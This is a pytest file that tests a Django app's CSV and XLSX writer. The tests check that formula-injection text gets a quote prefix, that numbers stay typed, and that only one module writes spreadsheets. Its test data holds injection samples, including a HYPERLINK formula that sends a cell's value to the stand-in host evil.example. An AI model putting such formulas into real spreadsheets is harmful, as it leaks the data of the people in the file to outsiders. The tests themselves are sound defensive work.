"""The one writer of CSV and XLSX files (loyalty.common.spreadsheets): spreadsheet formula injection is neutralised
(OWASP's rule) in text cells only, numbers stay numbers, and no other module writes such files. No database."""

import ast
import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.utils.translation import gettext_lazy

from loyalty.common.spreadsheets import CsvWriter, csv_lines, safe_text, xlsx_bytes

ROOT = Path(__file__).resolve().parent.parent
APPS = ("loyalty", "partners", "rewards", "communications", "analytics")
HELPER = "loyalty/common/spreadsheets.py"
# The demo plays a distributor's ERP: it writes the sell-out file our importer reads, with the ERP's values as
# they are (a return's quantity "-3" must stay "-3"). It is an input to the product, not a file the product gives.
FOREIGN_FILE_WRITERS = {"loyalty/demo/sales.py"}
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
DANGEROUS = ["=1+1", "+SUM(1,1)", "-2+3", "@SUM(1)", "\tcmd", "\r=1+1"]
ISSUE_EXAMPLES = ['=HYPERLINK("http://evil.example/?"&B2,"Open")', "+SUM(1,1)", "@SUM(1)", "-2+3"]


def parsed(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"))))


# The cell rule -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_like_a_formula_gets_a_single_quote_in_front(text):
    assert parsed(csv_lines([[text]])) == [["'" + text]]


@pytest.mark.parametrize("text", ISSUE_EXAMPLES)
def test_the_issues_address_values_are_neutralised(text):
    assert safe_text(text) == "'" + text


def test_a_phone_number_with_a_plus_is_quoted_as_owasp_prescribes():
    assert parsed(csv_lines([["+49 30 1234"]])) == [["'+49 30 1234"]]


@pytest.mark.parametrize(
    "text",
    ["Ana Kovač", "محمد رضایی", "東京都", "Zoë 🚚", "a=b", "x+1", "Hauptstr. 5", "01067", "", " =1+1", "'=1+1"],
)
def test_ordinary_and_unicode_text_is_unchanged(text):
    assert parsed(csv_lines([[text]])) == [[text]]


def test_numbers_dates_and_empty_cells_are_written_as_plain_values():
    row = [-5, 0, Decimal("-1450.50"), Decimal("1E+3"), date(2026, 3, 9), datetime(2026, 3, 9, 14, 5), None, True]

    assert parsed(csv_lines([row])) == [["-5", "0", "-1450.50", "1000", "2026-03-09", "2026-03-09 14:05", "", "True"]]


def test_line_breaks_commas_and_quotes_survive_the_round_trip():
    rows = [['Ben "B" Ó', "Line 1,\nLine 2", "Line 1\r\nLine 2", "=A1\n+A2"]]

    assert parsed(csv_lines(rows)) == [['Ben "B" Ó', "Line 1,\nLine 2", "Line 1\r\nLine 2", "'=A1\n+A2"]]


def test_the_header_goes_through_the_rule_too_and_may_be_a_lazy_translation():
    lines = list(csv_lines([], header=[gettext_lazy("Order"), "=cmd"], bom=True))

    assert lines == ["\ufeffOrder,'=cmd\r\n"]


def test_the_byte_order_mark_comes_once_before_the_first_line():
    assert list(csv_lines([["a"], ["b"]], bom=True)) == ["\ufeffa\r\n", "b\r\n"]
    assert list(csv_lines([], bom=True)) == ["\ufeff"]
    assert list(csv_lines([])) == []


def test_the_file_writer_applies_the_same_rule():
    buffer = io.StringIO()
    writer = CsvWriter(buffer, lineterminator="\n")
    writer.writerow(["line", "value"])
    writer.writerows([[2, "=BAD"], [3, "-0"], [4, -7]])

    assert buffer.getvalue() == "line,value\n2,'=BAD\n3,'-0\n4,-7\n"


# XLSX ----------------------------------------------------------------------------------------------------------


def read_xlsx(data: bytes) -> tuple[list[list[dict]], list[str], list[dict]]:
    """(rows of cells {type, value, style}, shared strings, cell formats) of a one-sheet workbook."""
    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
        strings = ["".join(node.itertext()) for node in ElementTree.fromstring(workbook.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(workbook.read("xl/styles.xml"))
    formats = [dict(xf.attrib) for xf in styles.find(f"{MAIN}cellXfs")]
    rows = [
        [{"type": c.get("t"), "value": c.findtext(f"{MAIN}v"), "style": int(c.get("s", 0))} for c in r.iter(f"{MAIN}c")]
        for r in sheet.iter(f"{MAIN}row")
    ]
    return rows, strings, formats


def test_xlsx_writes_formula_like_text_as_a_quote_prefixed_string_with_its_value_unchanged():
    data = xlsx_bytes([["=1+1", "+49 30 1234", "Ana Kovač"]], header=["A", "B", "C"], sheet_name="S")

    rows, strings, formats = read_xlsx(data)
    cells = rows[1]
    assert [cell["type"] for cell in cells] == ["s", "s", "s"]  # strings, no formula cell
    assert [strings[int(cell["value"])] for cell in cells] == ["=1+1", "+49 30 1234", "Ana Kovač"]
    assert [formats[cell["style"]].get("quotePrefix") for cell in cells] == ["1", "1", None]


def test_xlsx_writes_numbers_and_dates_as_typed_cells():
    row = [-5, Decimal("-1450.50"), date(2026, 3, 9), datetime(2026, 3, 9, 14, 5), None]

    rows, _strings, _formats = read_xlsx(xlsx_bytes([row], header=["a", "b", "c", "d", "e"], sheet_name="S"))

    assert [(cell["type"], cell["value"]) for cell in rows[1][:2]] == [(None, "-5"), (None, "-1450.50")]
    assert rows[1][2]["value"] == "46090" and float(rows[1][3]["value"]) == pytest.approx(46090.586805555555)
    assert len(rows[1]) == 4  # no cell for None


def test_xlsx_refuses_a_value_it_cannot_type():
    with pytest.raises(TypeError, match="No spreadsheet cell for float"):
        xlsx_bytes([[1.5]], header=["a"], sheet_name="S")


# Nobody else writes spreadsheet files ---------------------------------------------------------------------------


def _spreadsheet_writes(tree: ast.AST):
    """(line, what) for each csv.writer/DictWriter (however imported) and each import of xlsxwriter."""
    csv_names = {"writer", "DictWriter"}
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            imported |= {alias.asname or alias.name for alias in node.names if alias.name in csv_names}
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "xlsxwriter":
            yield node.lineno, "from xlsxwriter import"
        if isinstance(node, ast.Import):
            yield from ((node.lineno, "import xlsxwriter") for a in node.names if a.name.split(".")[0] == "xlsxwriter")
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in csv_names and getattr(node.value, "id", "") == "csv":
            yield node.lineno, f"csv.{node.attr}"
        if isinstance(node, ast.Name) and node.id in imported:
            yield node.lineno, node.id


def test_only_the_spreadsheets_module_writes_csv_or_xlsx():
    writers = {}
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            name = path.relative_to(ROOT).as_posix()
            if found := list(_spreadsheet_writes(ast.parse(path.read_text(), filename=name))):
                writers[name] = found

    assert set(writers) - FOREIGN_FILE_WRITERS == {HELPER}, writers


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(f)",
        "import csv\nw = csv.DictWriter(f, fieldnames=[])",
        "from csv import writer as w\nw(f)",
        "import xlsxwriter",
        "from xlsxwriter import Workbook",
    ],
)
def test_the_check_sees_every_way_to_write_a_spreadsheet(source):
    assert list(_spreadsheet_writes(ast.parse(source)))


def test_the_check_lets_uploads_be_read():
    source = "import csv\nrows = csv.reader(f)\nrows = csv.DictReader(f)\ncsv.field_size_limit(10)"

    assert list(_spreadsheet_writes(ast.parse(source))) == []
